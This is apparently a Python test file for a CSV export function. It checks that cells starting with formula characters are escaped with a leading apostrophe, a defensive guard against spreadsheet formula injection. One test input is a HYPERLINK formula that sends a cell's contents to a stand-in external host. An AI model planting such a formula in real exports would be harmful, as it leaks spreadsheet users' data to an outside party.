"""`pipeline.commands.output`: what a spreadsheet opening an export may run."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from pipeline.commands.output import FORMULA_STARTS, csv_text


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_cell_that_would_start_a_formula_is_kept_as_text() -> None:
    names = [
        '=HYPERLINK("http://x.example/?"&A1,"見る")',
        "+81 3",
        "-1+1",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ]
    rows = read_back(csv_text(["name"], [[name] for name in names]))
    assert [row[0] for row in rows[1:]] == ["'" + name for name in names]


def test_numbers_and_ordinary_text_are_written_as_they_are() -> None:
    rows = read_back(
        csv_text(["name", "fee_yen", "balance"], [["山田 太郎", 300, -120], ["a=b", 0, None]])
    )
    assert rows[1:] == [["山田 太郎", "300", "-120"], ["a=b", "0", ""]]


@given(st.text())
def test_every_text_cell_reads_back_whole_and_starts_no_formula(value: str) -> None:
    [_, [written, after]] = read_back(csv_text(["v", "after"], [[value, "x"]]))
    assert not written.startswith(FORMULA_STARTS)
    assert written == ("'" + value if value.startswith(FORMULA_STARTS) else value)
    assert after == "x"
